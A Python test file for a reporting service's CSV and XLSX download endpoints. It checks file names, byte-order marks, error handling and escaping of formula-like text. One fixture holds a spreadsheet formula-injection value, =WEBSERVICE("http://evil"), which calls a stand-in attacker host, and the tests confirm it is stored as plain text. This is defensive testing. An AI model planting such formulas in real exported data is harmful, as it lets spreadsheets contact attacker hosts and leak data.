"""Every report as a download over the app's fakes: `?format=xlsx` reads back as the JSON rows
(types included), CSV and XLSX carry a `Content-Disposition` file name, `?bom=1` starts a CSV
with a UTF-8 byte-order mark, and formula-like text is text in both."""

import csv
import io

import pytest

from services.reporting.http.intake import IntakeItem
from services.reporting.http.models import (
    AgreementItem,
    AuditEvent,
    EvaluationItem,
    ProgramReport,
    QuotaItem,
    RegionalItem,
)
from services.reporting.http.plan_models import RosterItem
from services.reporting.http.recidivism_models import RecidivismItem, StockItem
from services.reporting.http.xlsx import XLSX_MEDIA_TYPE
from tests.spreadsheet import assert_same_rows, sheet
from tests.unit.test_reporting_app import AID, ITEM, PROGRAM_ID, FakeDeps, assert_error, client
from tests.unit.test_reporting_evaluation_app import EMPTY, PRISON, ROW
from tests.unit.test_reporting_recidivism_app import ROW as COHORT
from tests.unit.test_reporting_recidivism_app import STOCK
from tests.unit.test_reporting_roster import Rosters

A = "lapas-banyuwangi"
INTAKE = {**dict.fromkeys(IntakeItem.model_fields, 3), "prison_id": A,
          "days_to_decision_median": 19.5, "days_to_decision_max": None, "timeliness_rate": 0.5}
QUOTA = {"year": 2026, "level": "prison", "kanwil_id": "kanwil-jatim", "prison_id": A,
         "track": "medical", "target": 40, "realised": 30, "realisation_rate": 0.75,
         "prisons_without_target": 0}


class Everything(Rosters, FakeDeps):
    """The app's fakes plus the reads of the reports they lack."""

    def __init__(self) -> None:
        super().__init__(rows=([ROW, EMPTY], [PRISON]))

    async def intake(self, schema, window, prison_id):
        return [INTAKE]

    async def recidivism(self, schema, to, cohort, window, prison_id):
        return [COHORT]

    async def recidivism_stock(self, schema, on, prison_id):
        return [STOCK]

    async def quotas(self, schema, year, tracks):
        return [QUOTA]


WINDOW = {"from": "2025-01-01", "to": "2025-12-31"}
# (path, query, model, the JSON body's rows key or None for one object, the file's stem)
REPORTS = [
    ("/agreements", {}, AgreementItem, "items", "pulih-agreements-2026-04-01"),
    ("/agreements", {"prison_id": A, "status": "active"}, AgreementItem, "items",
     f"pulih-agreements-{A}-active-2026-04-01"),
    (f"/programs/{PROGRAM_ID}", {}, ProgramReport, None, f"pulih-program-{A}-{PROGRAM_ID}"),
    (f"/programs/{PROGRAM_ID}/participants", {}, RosterItem, "items",
     f"pulih-participants-{A}-{PROGRAM_ID}"),
    ("/evaluation", WINDOW, EvaluationItem, "items", "pulih-evaluation-2025-01-01_2025-12-31"),
    ("/evaluation", {"partner_id": "bnnk-banyuwangi"}, EvaluationItem, "items",
     "pulih-evaluation-bnnk-banyuwangi-to-2026-04-01"),
    ("/regional", WINDOW, RegionalItem, "items", "pulih-regional-2025-01-01_2025-12-31"),
    (f"/audit/agreement/{AID}", {}, AuditEvent, "events", f"pulih-audit-agreement-{AID}"),
    ("/intake", {"to": "2025-06-30"}, IntakeItem, "items", "pulih-intake-to-2025-06-30"),
    ("/recidivism", {"window": 12, "cohort": 2024}, RecidivismItem, "items",
     "pulih-recidivism-2024-12m-to-2026-04-01"),
    ("/recidivism/stock", {"on": "2025-01-01"}, StockItem, "items",
     "pulih-recidivism-stock-2025-01-01"),
    ("/quotas", {"level": "prison"}, QuotaItem, "items", "pulih-quotas-2026-prison"),
]


@pytest.mark.parametrize(("path", "query", "model", "key", "stem"), REPORTS)
async def test_every_report_downloads_as_xlsx_with_the_json_rows(path, query, model, key, stem):
    async with client(Everything()) as http:
        body = (await http.get(path, params=query)).json()
        xlsx = await http.get(path, params={**query, "format": "xlsx"})
    assert xlsx.status_code == 200
    assert xlsx.headers["content-type"] == XLSX_MEDIA_TYPE
    assert xlsx.headers["content-disposition"] == f'attachment; filename="{stem}.xlsx"'
    rows = [body] if key is None else body[key]
    assert rows  # the comparison compares something
    assert_same_rows(xlsx.content, rows, model)
    assert stem.startswith(f"pulih-{sheet(xlsx.content).title}-")  # the sheet: the report


@pytest.mark.parametrize(("path", "query", "model", "key", "stem"), REPORTS)
async def test_every_report_downloads_as_csv_named_and_with_a_bom_when_asked(
        path, query, model, key, stem):
    async with client(Everything()) as http:
        plain = await http.get(path, params={**query, "format": "csv"})
        marked = await http.get(path, params={**query, "format": "csv", "bom": "1"})
    assert plain.headers["content-disposition"] == f'attachment; filename="{stem}.csv"'
    assert marked.headers["content-disposition"] == plain.headers["content-disposition"]
    assert not plain.content.startswith(b"\xef\xbb\xbf")
    assert marked.content == b"\xef\xbb\xbf" + plain.content
    assert next(csv.reader(io.StringIO(plain.text))) == list(model.model_fields)


async def test_json_is_no_download_and_ignores_bom():
    async with client(Everything()) as http:
        response = await http.get("/agreements", params={"bom": "true"})
    assert response.json() == {"items": [ITEM]}
    assert "content-disposition" not in response.headers


@pytest.mark.parametrize("query", [{"bom": "maybe"}, {"format": "xls"}, {"format": "XLSX"}])
async def test_a_bad_bom_or_format_is_400_invalid(query):
    async with client(Everything()) as http:
        response = await http.get("/agreements", params=query)
    assert_error(response, 400, "invalid", list(query))


class Formulae(FakeDeps):
    async def agreements(self, schema, today, prison_id, partner_id, status):
        return [{**ITEM, "title": "=WEBSERVICE(\"http://evil\")", "partner_name": "@Yayasan",
                 "number": "-1", "days_left": 0}]


async def test_the_xlsx_writes_formula_like_text_as_text():
    async with client(Formulae()) as http:
        body = (await http.get("/agreements")).json()
        xlsx = await http.get("/agreements", params={"format": "xlsx"})
    page = assert_same_rows(xlsx.content, body["items"], AgreementItem)
    cells = {c.value: c for c in page[2]}
    assert all(cells[t].quotePrefix and cells[t].data_type == "s"
               for t in ("=WEBSERVICE(\"http://evil\")", "@Yayasan", "-1"))
    assert page["L2"].value == 0 and page["L2"].data_type == "n"  # days_left
    assert page["J2"].is_date and not page["J2"].quotePrefix  # effective_until
